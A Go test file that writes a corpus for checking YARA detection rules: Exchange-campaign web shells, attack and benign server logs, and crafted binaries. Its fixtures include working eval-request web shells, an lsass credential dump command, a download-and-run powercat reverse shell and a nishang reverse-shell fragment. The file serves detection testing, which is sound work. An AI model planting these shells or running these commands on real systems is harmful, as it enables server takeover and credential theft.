package yara

import (
	"bytes"
	"encoding/base64"
	"fmt"
	"math/rand"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

// corpusFile is a generated test file and the externals passed for it.
type corpusFile struct {
	name string // relative
	path string
	ext  map[string]string
}

// genCorpus writes the oracle corpus into dir: web shells of the Exchange
// campaigns, benign web files, logs with and without attack lines, binary
// files, large files, and files crafted for each string modifier and
// condition form of testdata/oracle/*.yar.
func genCorpus(t testing.TB, dir string) []corpusFile {
	t.Helper()
	rng := rand.New(rand.NewSource(20210302))
	var files []corpusFile
	add := func(name, filetype string, data []byte) {
		p := filepath.Join(dir, name)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, data, 0o644); err != nil {
			t.Fatal(err)
		}
		// the externals as the file hunt sets them (LOKI's conventions):
		// the extension lower-cased with its dot
		base := filepath.Base(name)
		ext := strings.ToLower(filepath.Ext(base))
		files = append(files, corpusFile{name: name, path: p, ext: map[string]string{
			"filename": base, "filepath": p, "extension": ext, "filetype": filetype}})
	}
	for name, data := range webShells(rng) {
		add("shells/"+name, "webshell", data)
	}
	for name, data := range benignWeb() {
		add("web/"+name, "web", data)
	}
	// the server-page corpora of internal/aspx: written shells of every
	// family and benign pages with inline server code
	for _, sub := range []string{"shells", "benign"} {
		paths, err := filepath.Glob(filepath.Join("..", "aspx", "testdata", sub, "*"))
		if err != nil || len(paths) == 0 {
			t.Fatalf("aspx corpus %s: %v", sub, err)
		}
		for _, p := range paths {
			data, err := os.ReadFile(p)
			if err != nil {
				t.Fatal(err)
			}
			add("aspx-"+sub+"/"+filepath.Base(p), "web", data)
		}
	}
	for name, data := range logFiles(rng) {
		add("logs/"+name, "log", data)
	}
	for name, data := range binaries(rng) {
		add("bin/"+name, "binary", data)
	}
	for name, data := range crafted(rng) {
		add("crafted/"+name, "crafted", data)
	}
	for name, data := range campaignFiles(rng) {
		add("campaign/"+name, "campaign", data)
	}
	for name, data := range mathFiles(rng) {
		add("math/"+name, "math", data)
	}
	return files
}

// mathFiles exercise the math module functions (testdata/oracle/math.yar):
// encoded blobs (base64, random bytes, one repeated byte) inside script
// pages, small and large.
func mathFiles(rng *rand.Rand) map[string][]byte {
	b64 := base64.StdEncoding.EncodeToString(randBytes(rng, 6000))
	raw := randBytes(rng, 9000)
	for i := range raw { // keep the PHP quotes out of the blob
		if raw[i] == '\'' || raw[i] == '\\' {
			raw[i] = 'x'
		}
	}
	return map[string][]byte{
		"eval-b64-big.php":    []byte("<?php\n$x = '" + b64 + "';\neval(base64_decode($x));\n?>\n"),
		"dynamic-b64-big.php": []byte("<?php $f = 'base'.'64_decode'; $c = '" + b64 + "'; $g = $f($c); eval($g); ?>"),
		"eval-raw-big.php":    append(append([]byte("<?php eval(gzinflate('"), raw...), []byte("')); ?>")...),
		"eval-small.php":      []byte("<?php eval($_POST['a']); ?>"),
		"classloader-fill.jsp": []byte("<%@ page import=\"java.util.*\" %><% class U extends ClassLoader { Class g(byte[] b) { return super.defineClass(b, 0, b.length); } } String p = request.getParameter(\"p\"); %>" +
			strings.Repeat("A", 20000) + "<% out.print(p); %>"),
		"classloader-random.jsp": append(append([]byte("<% class U extends ClassLoader { } Object o = U.class; String s = request.getParameter(\"x\"); defineClass(s); /*"), randBytes(rng, 30000)...), []byte("*/ %>")...),
	}
}

func crlf(s string) []byte { return []byte(strings.ReplaceAll(s, "\n", "\r\n")) }

func randBytes(rng *rand.Rand, n int) []byte {
	b := make([]byte, n)
	rng.Read(b)
	return b
}

func randAlnum(rng *rand.Rand, n int) string {
	const al = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"
	b := make([]byte, n)
	for i := range b {
		b[i] = al[rng.Intn(len(al))]
	}
	return string(b)
}

func utf16le(s string, bom bool) []byte {
	var b []byte
	if bom {
		b = append(b, 0xff, 0xfe)
	}
	for _, c := range []byte(s) {
		b = append(b, c, 0)
	}
	return b
}

// oabDump is the text dump of the OAB virtual directory with a script in
// ExternalUrl, as written by Set-OabVirtualDirectory abuse (reference §3.7).
func oabDump(server, script string) []byte {
	props := [][2]string{
		{"Name", "OAB (Default Web Site)"}, {"PollInterval", "480"}, {"OfflineAddressBooks", ""},
		{"RequireSSL", "True"}, {"BasicAuthentication", "False"}, {"WindowsAuthentication", "True"},
		{"OAuthAuthentication", "True"}, {"MetabasePath", "IIS://" + server + "/W3SVC/1/ROOT/OAB"},
		{"Path", `C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB`},
		{"ExtendedProtectionTokenChecking", "None"}, {"ExtendedProtectionFlags", ""},
		{"ExtendedProtectionSPNList", ""}, {"AdminDisplayVersion", "Version 15.1 (Build 2106.2)"},
		{"Server", server}, {"InternalUrl", "https://" + strings.ToLower(server) + ".corp.local/OAB"},
		{"InternalAuthenticationMethods", "{WindowsIntegrated}"},
		{"ExternalUrl", "http://f/" + script}, {"ExternalAuthenticationMethods", "{WindowsIntegrated}"},
		{"AdminDisplayName", ""}, {"ExchangeVersion", "0.10 (14.0.100.0)"},
		{"DistinguishedName", "CN=OAB (Default Web Site),CN=HTTP,CN=Protocols,CN=" + server + ",CN=Servers"},
		{"Identity", server + `\OAB (Default Web Site)`}, {"Guid", "b0a5f9d1-3f26-4c54-9a2e-2a8d4e5c6f70"},
		{"ObjectCategory", "corp.local/Configuration/Schema/ms-Exch-OAB-Virtual-Directory"},
		{"WhenChanged", "3/4/2021 8:07:21 AM"}, {"WhenCreated", "6/11/2020 2:13:45 PM"},
		{"OrganizationId", ""}, {"OriginatingServer", "DC01.corp.local"}, {"IsValid", "True"},
	}
	var b strings.Builder
	for _, p := range props {
		fmt.Fprintf(&b, "%-32s: %s\n", p[0], p[1])
	}
	return crlf(b.String())
}

func webShells(rng *rand.Rand) map[string][]byte {
	key := randAlnum(rng, 8)
	m := map[string][]byte{
		"chopper_jscript.aspx": []byte(`<%@ Page Language="Jscript"%><%eval(Request.Item["` + key + `"],"unsafe");%>`),
		"chopper_jscript_debug.aspx": []byte(`<%@ Page Language="Jscript" Debug=true%><%eval(Request.Form("` + key +
			`"),"unsafe");%>`),
		"chopper_csharp.aspx": []byte(`<script language="C#" runat="server">protected void Page_Load(object sender, EventArgs e){System.IO.StreamWriter sw = new System.IO.StreamWriter(Request.Form["p"] , false, Encoding.Default);sw.Write(Request.Form["f"]);}</script>`),
		"chopper_script.aspx": []byte(`<script language="JScript" runat="server">function Page_Load(){eval(Request["` + key + `"],"unsafe");}</script>`),
		"owa_auth_errorFE.aspx": oabDump("EXCH01",
			`<script language="JScript" runat="server">function Page_Load(){eval(Request["`+key+`"],"unsafe");}</script>`),
		"oab_served.aspx":     oabDump("EXCH02", ""),
		"simpleseesharp.aspx": []byte(`<%@ Page Language="C#" %><% HttpPostedFile thisFile = Request.Files[0];thisFile.SaveAs(Path.Combine(Server.MapPath("."), thisFile.FileName)); %>`),
		"sportsball.aspx": []byte("<%@ Page Language=\"C#\" %>\n<script runat=\"server\">\nprotected void Page_Load(object sender, EventArgs e) {\n" +
			"Result.InnerText = string.Empty;\nHttpCookie newcook = new HttpCookie(\"fqrspt\", HttpContext.Current.Request.Form[\"x\"]);\n" +
			"newcook.Expires = DateTime.Now.AddDays(1);\nSystem.Diagnostics.Process process = new System.Diagnostics.Process();\n" +
			"process.StandardInput.WriteLine(HttpContext.Current.Request.Form[\"cmd\"]);\n" +
			"else if (!string.IsNullOrEmpty(HttpContext.Current.Request.Form[\"upl\"]))\n}\n</script>\n<input type=\"submit\" value=\"Upload\" />\n"),
		"regeorg_tunnel.aspx": []byte("<%@ Page Language=\"C#\" EnableSessionState=\"True\"%>\n<%@ Import Namespace=\"System.Net\" %>\n<%@ Import Namespace=\"System.Net.Sockets\" %>\n<%\n" +
			"String cmd = Request.Headers.Get(\"X-CMD\");\nString target = Request.Headers.Get(\"X-TARGET\").Split('|')[0];\n" +
			"IPAddress ip;\nSocket sender = new Socket(AddressFamily.InterNetwork, SocketType.Stream, ProtocolType.Tcp);\n" +
			"String s = target.Substring(1);\nString d = System.Text.Encoding.Default.GetString(Convert.FromBase64String(StrTr(Request.Headers.Get(\"X-DATA\"))));\n%>\n"),
		"secchecker.aspx": []byte(`<%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write( "1");}%><%if(System.IO.File.Exists("c:\\program files\\crowdstrike\\csfalconservice.exe")){Response.Write( "3");}%></head>`),
		"edr_probe2.aspx": []byte(`<%@ Page Language="C#"%><%if(System.IO.File.Exists("c:\\program files (x86)\\fireeye\\xagt.exe")){Response.Write( "2");}%>`),
		"tiny.aspx":       []byte(`<%@ Page Language="Jscript" Debug=true%><%var c=Request.Form("` + key + `");eval(c);%>`),
		"chopper_mar21_4.aspx": []byte(`<%@Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["` +
			key + `"])),"unsafe");%>`),
		"chopper_mar21_4_wide.aspx": utf16le(`<%@Page Language="Jscript"%><%eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request.Item["x"])),"unsafe");%>`, true),
		"iisstart.aspx": []byte(`<%@ Page language="JScript" %><script runat="server">function getErrorWord(){var errorWord=Request["AppcacheVer"];` +
			`Response.Redirect("/");}function Page_Load(){eval/*x*/(getErrorWord());}</script>`),
		"dropper_nov21.aspx": []byte(`<%@ Page Language="C#" %><%var x=new System.Xml.XmlDocument();x.LoadXml(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["x"])));` +
			`var m=new System.IO.MemoryStream();t.Transform(x,null,m);%>`),
		"loader_aug21.aspx":       []byte(`<%@ Page Language="Jscript"%><%var a=1);eval/*asf*/(Request["x"],"unsafe");%>`),
		"chopper_like_mar21.aspx": []byte(`http://f/<script language="JScript" runat="server">var _0x1f2e=['x','orange','unsafe','y'];(function(){}(_0x1f2e));function Page_Load(){var _0x3a=1;eval(Request[_0x1f2e[0]],'orange','unsafe','');}</script>`),
		"embedded.aspx":           []byte("<%@ Page Language=\"C#\" %>\n<SCRIPT RUNAT=\"SERVER\">\nvoid Page_Load(object s, EventArgs e){\nvar w = new System.IO.StreamWriter(Request.Form[\"p\"]);\nw.Write(Request.Form[\"c\"]);w.Close();}\n</SCRIPT>\n"),
		"upload_mar21_3.aspx":     utf16le(`<script language="c#" runat="server">void Page_Load(object sender, EventArgs e){if (Request.Files.Count!=0) { Request.Files[0].SaveAs(Server.MapPath("./x.aspx"));}}</script>`, false),
		"fileexplorer.aspx": []byte(`<%@ Page Language="C#" %><span style="background-color: #778899; color: #fff; padding: 5px; cursor: pointer" onclick=` +
			`"x">Run</span><%string s=(Request.Form["a"]);%>Label.Text + " Created!";DriveInfo.GetDrives()`),
	}
	// PST-format files: !BDN header, permutation-encoded blocks, script text
	for i, script := range []string{
		`<script language="JScript" runat="server">function Page_Load(){eval(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["orangenb"])),"unsafe");}</script>`,
		`<%@ Page Language="Jscript"%><%eval(Request.Item["exec_code"],"unsafe");%>`,
		`<%@ Page Language="C#"%><%Response.Write(System.Text.Encoding.UTF8.GetString(System.Convert.FromBase64String(Request["gold8899"])));%>`,
	} {
		var b bytes.Buffer
		b.WriteString("!BDN")
		b.Write(randBytes(rng, 508))
		b.WriteString("\x00\x00")
		b.Write(randBytes(rng, 1000+rng.Intn(3000)))
		b.WriteString(script)
		b.Write(randBytes(rng, 2000))
		m[fmt.Sprintf("pst_%d.aspx", i)] = bytes.Clone(b.Bytes())
	}
	var der bytes.Buffer
	der.Write([]byte{0x30, 0x82, 0x03, 0x1a})
	der.Write(randBytes(rng, 300))
	der.WriteString(`<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>`)
	m["der_header.aspx"] = der.Bytes()
	m["nonascii_header.aspx"] = append([]byte{0x00, 0x01, 0x9f, 'x'}, []byte(`<%@ Page Language="C#"%><% Response.Write("x"); %>`)...)
	// a CISA-style OAB file with ": http://f/" and padded ExternalUrl
	m["cisa_oab.aspx"] = oabDump("EXCH03", `<script runat="server">function Page_Load(){eval(Request["a"],"unsafe");}</script>`)
	return m
}

func benignWeb() map[string][]byte {
	return map[string][]byte{
		"default.aspx": []byte("<%@ Page Language=\"C#\" AutoEventWireup=\"true\" CodeBehind=\"Default.aspx.cs\" Inherits=\"WebApp._Default\" %>\n<!DOCTYPE html>\n<html><head runat=\"server\"><title>Home</title></head>\n<body><form id=\"form1\" runat=\"server\"><div>Welcome</div></form></body></html>\n"),
		"errorFE.aspx": []byte("<%@ Page Language=\"C#\" AutoEventWireup=\"true\" Inherits=\"Microsoft.Exchange.HttpProxy.ErrorFE\" %>\n<html><body><h1>Something went wrong</h1></body></html>\n"),
		"logon.js":     []byte("function clkLgn(){var oForm=document.forms[0];if(oForm.username.value==''){return false;}oForm.submit();}\nwindow.onload=function(){document.getElementById('username').focus();};\n"),
		"logon.css":    []byte("body{font-family:'Segoe UI',Tahoma;background:#fff}\n.signInBg{background-color:#0072c6}\n.logonDiv{position:absolute;top:50%}\n"),
		"web.config": []byte("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n<configuration>\n  <system.web>\n    <compilation debug=\"false\" targetFramework=\"4.8\" />\n" +
			"    <httpRuntime maxRequestLength=\"65536\" />\n  </system.web>\n  <system.webServer>\n    <modules runAllManagedModulesForAllRequests=\"true\" />\n  </system.webServer>\n</configuration>\n"),
		"applicationHost.config": []byte("<configuration>\n<configSections>\n<sectionGroup name=\"system.webServer\">\n</sectionGroup>\n</configSections>\n<system.applicationHost>\n<sites>\n" +
			"<site name=\"Default Web Site\" id=\"1\">\n<application path=\"/\">\n<virtualDirectory path=\"/\" physicalPath=\"%SystemDrive%\\inetpub\\wwwroot\" />\n</application>\n" +
			"<application path=\"/aspnet_client/system_web\">\n<virtualDirectory path=\"/\" physicalPath=\"C:\\ProgramData\\COM\\s\" />\n</application>\n</site>\n</sites>\n</system.applicationHost>\n</configuration>\n"),
		"applicationHost_users.config": []byte("<configuration>\n<sectionGroup name=\"system.webServer\">\n</sectionGroup>\n<sites>\n<site name=\"Default Web Site\" id=\"1\">\n" +
			"<virtualDirectory path=\"/x\" physicalPath=\"C:\\Users\\All Users\\x\" />\n<virtualDirectory path=\"/y\" physicalPath=\"C:\\Users\\bob\\y\" />\n</site>\n</sites>\n</configuration>\n"),
		"empty.aspx":     {},
		"page_java.aspx": []byte("\x01\x02<%@ Page Language=\"java\" %>\n"),
	}
}

func logFiles(rng *rand.Rand) map[string][]byte {
	m := map[string][]byte{}
	ips := []string{"10.0.0.5", "192.168.10.20", "165.232.154.116", "86.105.18.116", "104.248.49.97"}
	uas := []string{
		"Mozilla/5.0+(Windows+NT+10.0;+Win64;+x64)+AppleWebKit/537.36+(KHTML,+like+Gecko)+Chrome/88.0.4324.190+Safari/537.36",
		"ExchangeServicesClient/0.0.0.0", "python-requests/2.25.1", "antSword/v2.1",
		"Mozilla/5.0+(compatible;+Baiduspider/2.0;++http://www.baidu.com/search/spider.html)",
		"DuckDuckBot/1.0;+(+http://duckduckgo.com/duckduckbot.html)",
	}
	iisLine := func(method, uri, query string, status int, ua string) string {
		return fmt.Sprintf("2021-03-03 %02d:%02d:%02d 10.0.0.1 %s %s %s 443 - %s %s - %d 0 0 %d\n",
			rng.Intn(24), rng.Intn(60), rng.Intn(60), method, uri, query, ips[rng.Intn(len(ips))], ua, status, rng.Intn(900))
	}
	header := "#Software: Microsoft Internet Information Services 10.0\n#Version: 1.0\n#Date: 2021-03-03 00:00:00\n#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
	// benign IIS log
	var b strings.Builder
	b.WriteString(header)
	for i := 0; i < 400; i++ {
		b.WriteString(iisLine("GET", "/owa/", "&ClientId="+randAlnum(rng, 32), 200, uas[0]))
	}
	m["u_ex210301.log"] = []byte(b.String())
	// attack IIS log
	b.Reset()
	b.WriteString(header)
	long := "&CorrelationID=<empty>;&cafeReqId=" + randAlnum(rng, 36) + ";&X-BEResource=" + randAlnum(rng, 60)
	for i := 0; i < 200; i++ {
		switch i % 25 {
		case 3:
			b.WriteString(iisLine("POST", "/ecp/y.js", long, 200, uas[1]+"+"+randAlnum(rng, 250)))
		case 7:
			b.WriteString(iisLine("POST", "/owa/auth/Current/themes/resources/logon.css", long, 200, uas[4]))
		case 9:
			b.WriteString(iisLine("POST", "/owa/auth/Current/"+randAlnum(rng, 120), long, 200, uas[5]))
		case 11:
			b.WriteString(iisLine("POST", "/aspnet_client/discover.aspx", long, 200, uas[3]+" "+randAlnum(rng, 220)))
		case 13:
			b.WriteString(iisLine("GET", "/rpc/", "&CorrelationID=<empty>;&RequestId="+randAlnum(rng, 60), 200, uas[0]))
		case 17:
			b.WriteString(iisLine("POST", "/autodiscover/autodiscover.json", "@evil.com/mapi/nspi/?&Email=autodiscover/autodiscover.json%3F@evil.com", 200, uas[2]))
		case 19:
			b.WriteString(iisLine("GET", "/autodiscover/autodiscover.json", "@evil.com/powershell/?X-Rps-CAT=VgEAVAdXaW5kb3dz&Email=autodiscover/autodiscover.json%3F@evil.com", 401, uas[2]))
		case 21:
			b.WriteString(iisLine("POST", "/owa/mastermailbox%40outlook.com/powershell", "", 200, uas[2]))
		default:
			b.WriteString(iisLine("GET", "/owa/", "&ClientId="+randAlnum(rng, 32), 200, uas[0]))
		}
	}
	b.WriteString("2021-03-03 01:02:03 10.0.0.1 POST /powershell - 444 - 127.0.0.1 Microsoft+WinRM+Client - 200 0 0 2\n")
	b.WriteString("2022-10-03 01:02:03 10.0.0.1 POST /owa/test%40evil.com/powershell - 444 - 1.2.3.4 python - 200 0 0 22\n")
	b.WriteString("2022-10-03 01:02:03 10.0.0.1 POST /powershell - 444 - 1.2.3.4 python - 200 0 0 21\n")
	m["u_ex210303.log"] = []byte(b.String())
	// HttpProxy autodiscover log (CSV)
	b.Reset()
	b.WriteString("#Software: Microsoft Exchange Server\n#Version: 15.01.2106.002\n#Log-type: HttpProxy Logs\n")
	for i := 0; i < 100; i++ {
		if i%10 == 5 {
			fmt.Fprintf(&b, "2022-10-01T10:%02d:00.000Z,%s,15,1,2106,2,,Autodiscover,mail.corp.local,/autodiscover/autodiscover.json?@evil.com/owa/&Email=autodiscover/autodiscover.json%%3F@evil.com&Protocol=PowerShell,,,false,,,,python-requests/2.28.1,1.2.3.4,EXCH01,200,200,,POST,Proxy\n", i%60, randAlnum(rng, 36))
		} else {
			fmt.Fprintf(&b, "2022-10-01T10:%02d:00.000Z,%s,15,1,2106,2,,Owa,mail.corp.local,/owa/,,,false,,,,Mozilla/5.0,10.0.0.9,EXCH01,200,200,,GET,Proxy\n", i%60, randAlnum(rng, 36))
		}
	}
	b.WriteString(" /autodiscover/autodiscover.json?a=1 x Powershell GET /owa/ &Email=autodiscover/autodiscover.json%3F@test.com&ClientId=1 200 \n")
	b.WriteString("2022-11-17 POST /autodiscover/admin@localhost/x 200 \n")
	m["HttpProxy_Autodiscover_2022100110-1.LOG"] = []byte(b.String())
	// Rps_Http log with the ProxyNotShell pattern
	b.Reset()
	b.WriteString("#Log-type: Rps Http Logs\n")
	fmt.Fprintf(&b, "2022-10-02T10:00:00.000Z,%s,,/PowerShell?serializationLevel=Full;clientApplication=x,Kerberos,true,corp\\u,200,0,,,,%s;OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;\n", randAlnum(rng, 36), randAlnum(rng, 100))
	fmt.Fprintf(&b, "2022-10-02T10:00:00.000Z,%s,,/powershell,Kerberos,true,corp\\u,200,0,,,,ClientInfo;OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;\n", randAlnum(rng, 36))
	m["Rps_Http_2022100210-1.LOG"] = []byte(b.String())
	// ECP server log with the OAB cmdlet, and cleanup traces
	m["ECPServer2021030410-1.LOG"] = []byte("2021-03-04T08:07:21.000Z,S:CMD=Set-OabVirtualDirectory.ExternalUrl='http://f/<script>',S:USER=x\n" +
		"2021-03-04T08:09:00.000Z,cmd.exe /c cd /d C:\\inetpub\\wwwroot\\aspnet_client&del 'x.aspx'&echo [S]&cd&echo [E]\n" +
		"ServerInfo~a]@EXCH01:444/ecp/DDI/DDIService.svc/GetList?msExchEcpCanary=x /ecp/ab.js /ecp/main.css\n")
	m["history.txt"] = []byte("procdump64.exe -accepteula -ma lsass.exe C:\\windows\\temp\\lsass\r\n7z a c:\\ProgramData\\it.zip c:\\windows\\temp\\lsass.dmp\r\nIEX (New-Object System.Net.Webclient).DownloadString('http://x/powercat.ps1'); powercat -c 10.0.0.9 -p 443 -e powershell\r\n")
	m["HttpProxy_Autodiscover_2022100211-1.LOG"] = []byte("2022-10-02T11:00:00.000Z,x,15,1,2106,2,,Autodiscover,mail.corp.local, /autodiscover/autodiscover.json?@x.com/owa/?&Email=autodiscover/autodiscover.json%3F@x.com&Protocol=Powershell 200 POST\n")
	m["Rps_Http_2022100211-1.LOG"] = []byte("2022-10-02T11:00:00.000Z,y,,/Powershell?serializationLevel=Full,Kerberos,true,corp\\u,200,0,,,,a=b;OnEndRequest.End.ContentType=application/soap+xml charset UTF-8;S:ServiceCommonMetadata.HttpMethod=POST;\n")
	m["cleanup_wide.log"] = utf16le("cmd.exe /c cd /d C:/inetpub/wwwroot/aspnet_client&attrib +h +s +r x.aspx\n", true)
	// a large log: several MB of benign lines with a few attack lines
	b.Reset()
	b.WriteString(header)
	for b.Len() < 5<<20 {
		if rng.Intn(4000) == 0 {
			b.WriteString(iisLine("POST", "/ecp/default.flt", long, 302, uas[2]+"+"+randAlnum(rng, 260)))
			continue
		}
		b.WriteString(iisLine("GET", "/owa/"+randAlnum(rng, 10), "&ClientId="+randAlnum(rng, 32), 200, uas[0]))
	}
	m["u_ex210305_large.log"] = []byte(b.String())
	return m
}

func binaries(rng *rand.Rand) map[string][]byte {
	m := map[string][]byte{
		"random.bin": randBytes(rng, 1<<20),
		"zeros.bin":  make([]byte, 64<<10),
		"ones.bin":   bytes.Repeat([]byte{0xff}, 4096),
	}
	// PE-like: a compiled ASP.NET page (App_Web_*.dll) with webshell strings
	pe := make([]byte, 0, 20<<10)
	pe = append(pe, 'M', 'Z', 0x90, 0)
	pe = append(pe, make([]byte, 60)...)
	pe[0x3c] = 0x80
	pe = append(pe, []byte("This program cannot be run in DOS mode.\r\r\n$")...)
	for len(pe) < 0x80 {
		pe = append(pe, 0)
	}
	pe = append(pe, 'P', 'E', 0, 0, 0x4c, 0x01, 0x03, 0)
	pe = append(pe, randBytes(rng, 2000)...)
	pe = append(pe, utf16le("App_Web_"+randAlnum(rng, 8)+".dll", false)...)
	pe = append(pe, 0, 0)
	pe = append(pe, utf16le("~/aspnet_client/discover.aspx", false)...)
	pe = append(pe, 0, 0)
	for _, s := range []string{"get_Request", "get_Files", "get_Count", "get_Item", "get_Server", "JScriptEvaluate", "Page_Load"} {
		pe = append(pe, s...)
		pe = append(pe, 0)
	}
	pe = append(pe, randBytes(rng, 6000)...)
	m["App_Web_discover.dll"] = pe
	// a PE with the HAFNIUM DLL opcodes
	pe2 := append([]byte{'M', 'Z'}, randBytes(rng, 3000)...)
	pe2 = append(pe2, []byte{0x00, 0x43, 0x00, 0x58, 0x00, 0x77, 0x00, 0x30, 0x00, 0x4a, 0x00, 0x45, 0x00, 0x00, 0x51, 0x7e, 0x00, 0x2f, 0x00, 0x61, 0x00}...)
	pe2 = append(pe2, []byte{0x01, 0x0e, 0x0e, 0x05, 0x20, 0x01, 0x01, 0x11, 0x79, 0x04, 0x07, 0x01, 0x12, 0x2d, 0x04, 0x07, 0x01, 0x12, 0x31, 0x02}...)
	pe2 = append(pe2, []byte{0x5e, 0x00, 0x03, 0x00, 0xbc, 0x22, 0x00, 0x00, 0x00, 0x00, 0x01, 0x00, 0x85, 0x03, 0x2b, 0x00, 0x03, 0x00, 0xcc}...)
	pe2 = append(pe2, []byte("\x00Page_Load\x00")...)
	pe2 = append(pe2, utf16le(" : http://f/", false)...)
	pe2 = append(pe2, 0, 0x89, 0xa3, 0x0d, 0x00, 0x0a, 0x00)
	m["hafnium_dll.dll"] = pe2
	// CAB with recon file names
	cab := []byte("MSCF\x00\x00\x00\x00")
	cab = append(cab, randBytes(rng, 40)...)
	cab = append(cab, []byte("\x00ip.txt\x00arp.txt\x00system\x00security\x00")...)
	cab = append(cab, randBytes(rng, 3000)...)
	m["recon.cab"] = cab
	// Windows Error Report (UTF-16LE with BOM)
	m["Report.wer"] = utf16le("Version=1\r\nEventType=CLR20r3\r\nSig[0].Name=Problem Signature 01\r\nSig[0].Value=w3wp#MSExchangeECPAppPool\r\nAppPath=c:\\windows\\system32\\inetsrv\\w3wp.exe\r\n", true)
	// large random binary with planted strings (several MB)
	big := randBytes(rng, 3<<20)
	copy(big[1<<20:], "<%@ Page Language=\"Jscript\"%><%eval(Request.Item[\"z\"],\"unsafe\");%>")
	copy(big[2<<20:], utf16le("S:CMD=Set-OabVirtualDirectory.ExternalUrl='", false))
	m["large_random.bin"] = big
	m["powercat.ps1"] = []byte("function powercat\n{\n  param([alias(\"Execute\")][string]$e=\"\",\n)\n  $CommandToExecute = \"x\"\n  try{[byte[]]$ReturnedData = $Encoding.GetBytes((IEX $CommandToExecute 2>&1 | Out-String))}\n  Write-Verbose \"Returning Encoded Payload...\"\n}\n")
	m["nishang.ps1"] = utf16le("$client = New-Object Net.Sockets.TCPClient('10.0.0.1',4444);$stream = $client.GetStream();[byte[]]$bytes = 0..65535|%{0};$sendbytes=([text.encoding]::ASCII).GetBytes((iex $data 2>&1 | Out-String ))", false)
	return m
}

// crafted returns files for the feature rules of testdata/oracle: each
// modifier and condition form, with near misses.
func crafted(rng *rand.Rand) map[string][]byte {
	m := map[string][]byte{}
	var b bytes.Buffer
	// text modifiers
	b.WriteString("plain: evilcmd EVILCMD EvilCmd xevilcmd evilcmdx (evilcmd)\n")
	b.Write(utf16le("wide: evilcmd EvilCmd ", false))
	b.Write([]byte("\nwidefull: "))
	b.Write(utf16le("a", false))
	b.Write(utf16le("evilcmd", false))
	b.Write([]byte(" "))
	b.Write(utf16le("evilcmd", false))
	b.Write([]byte("\n"))
	for _, k := range []byte{0, 1, 2, 3, 0x20, 0x7f, 0xaa} {
		b.WriteString("xor: ")
		for _, c := range []byte("hidden-payload") {
			b.WriteByte(c ^ k)
		}
		b.WriteString("\n")
	}
	for i := 0; i < 3; i++ {
		b.WriteString("b64: " + base64.StdEncoding.EncodeToString(append([]byte("abc")[:i], "powershell -enc"...)) + "\n")
	}
	b.WriteString("b64wide: ")
	b.Write(utf16le(base64.StdEncoding.EncodeToString([]byte("cmd.exe /c whoami")), false))
	for i := 0; i < 3; i++ { // base64 of wide text, at each alignment
		b.WriteString("\nb64ofwide: " + base64.StdEncoding.EncodeToString(append([]byte("xy")[:i], utf16le("cmd.exe", false)...)))
	}
	b.WriteString("\nb64custom: " + base64.NewEncoding("ZYXWVUTSRQPONMLKJIHGFEDCBAzyxwvutsrqponmlkjihgfedcba9876543210+/").EncodeToString([]byte("x-custom-alphabet")) + "\n")
	b.WriteString("escapes: say \"hi\"\tC:\\temp\\x.exe\n")
	b.WriteString("private: secret-token secret-token\n")
	m["modifiers.txt"] = bytes.Clone(b.Bytes())

	// hex forms
	b.Reset()
	b.Write(randBytes(rng, 50))
	b.Write([]byte{0xde, 0xad, 0xbe, 0xef, 0x11, 0x22, 0xca, 0xfe})          // ?? and nibbles
	b.Write([]byte{0x4d, 0x5a, 0x01, 0x02, 0x03, 0x50, 0x45})                // jump [3]
	b.Write([]byte{0xaa, 0xbb, 0, 0, 0, 0, 0, 0, 0, 0xcc})                   // jump [2-8]
	b.Write([]byte{0x10, 0x20, 0x31})                                        // alternatives
	b.Write([]byte{0x10, 0x22, 0x23, 0x31})                                  // alternatives
	b.Write([]byte{0x10, 0x22, 0x24, 0x25, 0x31})                            // nested
	b.Write([]byte{0xf0, 0xf1})                                              // unbounded chain head
	b.Write(randBytes(rng, 5000))                                            //
	b.Write([]byte{0xf2, 0xf3})                                              // chain tail
	b.Write([]byte{0xe0, 0xe1, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0xe2, 0xe3}) // [10-]
	b.Write(randBytes(rng, 100))
	m["hexforms.bin"] = bytes.Clone(b.Bytes())

	// regex forms
	b.Reset()
	b.WriteString("GET /login.php?user=admin&pass=hunter2 HTTP/1.1\n")
	b.WriteString("POST /upload.aspx?f=shell.aspx HTTP/1.1\nCmd: WhoAmI /all\n")
	b.Write(utf16le("Invoke-Mimikatz -DumpCreds", false))
	b.WriteString("\nhttp://198.51.100.23:8080/a http://example.com/b\nAAAA1234BBBB\nline1\nline2 end\n")
	b.WriteString("abcabcabc xyzzy token_a token-b id=12345;\n")
	m["regex.txt"] = bytes.Clone(b.Bytes())

	// counts, offsets, lengths, loops
	b.Reset()
	b.WriteString("MARK")
	for i := 0; i < 12; i++ {
		b.WriteString(" tick")
		b.WriteString(strings.Repeat(".", i))
	}
	b.WriteString("\nMARKER at the end: tock tock tock\n")
	m["counts.txt"] = bytes.Clone(b.Bytes())

	// integer functions
	m["ints_be.bin"] = []byte{0xca, 0xfe, 0xba, 0xbe, 0xff, 0xfe, 0x7f, 0x80, 0x01, 0x02, 0x03, 0x04}
	m["ints_le.bin"] = []byte{0xbe, 0xba, 0xfe, 0xca, 0x80, 0xff, 0x00, 0x80}
	m["tiny.txt"] = []byte("x")
	return m
}

// TestWriteCorpus writes the oracle corpus to $CORPUS_OUT, to inspect it or
// run yara on it by hand.
